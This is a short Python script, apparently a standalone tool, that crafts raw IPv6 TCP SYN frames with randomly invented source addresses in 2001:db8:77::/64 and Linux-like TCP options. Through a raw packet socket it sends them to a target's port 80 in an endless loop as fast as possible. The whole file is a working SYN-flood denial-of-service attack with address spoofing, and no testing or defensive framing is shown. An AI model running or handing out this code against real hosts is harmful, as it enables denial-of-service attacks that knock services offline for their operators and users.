# SPDX-License-Identifier: GPL-3.0-or-later
"""DESTINATION DEVICE HARDWARE-ADDRESS - SYNs to its port 80 until killed, each from an invented address
of 2001:db8:77::/64, with the options of Linux; as fast as it goes."""
import random
import socket
import struct
import sys

dst = socket.inet_pton(socket.AF_INET6, sys.argv[1])
options = bytes.fromhex("020405a0" "0402" "080a0000000100000000" "01" "030307")
fd = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
fd.bind((sys.argv[2], 0))
ethernet = bytes.fromhex(sys.argv[3].replace(":", "")) + \
    fd.getsockname()[4] + b"\x86\xdd"


def total(b):
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return n


def frame():
    src = socket.inet_pton(socket.AF_INET6,
                           "2001:db8:77::%x" % random.randrange(1, 65536))
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), 80,
                      random.randrange(1 << 32), 0, 10 << 4, 2, 64240, 0, 0)
    tcp += options
    check = total(src + dst + struct.pack("!II", len(tcp), 6) + tcp) ^ 0xffff
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    head = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    return ethernet + head + tcp


frames = [frame() for i in range(2000)]
while True:
    for f in frames:
        fd.send(f)
